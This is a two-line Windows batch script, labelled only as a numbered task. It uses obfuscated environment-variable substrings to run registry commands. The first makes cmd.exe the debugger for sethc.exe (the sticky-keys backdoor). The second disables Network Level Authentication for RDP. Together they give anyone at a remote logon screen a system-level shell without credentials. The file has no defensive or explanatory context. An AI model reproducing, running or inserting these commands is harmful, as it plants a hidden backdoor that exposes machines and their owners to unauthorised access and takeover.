REM task 0823 v3
%ProgramData:~-7,1%%PUBLIC:~5,1%%ProgramData:~-8,1% add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f
%public:~6,1%%COMSPEC:~24,1%%PROGRAMDATA:~6,1% add "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f
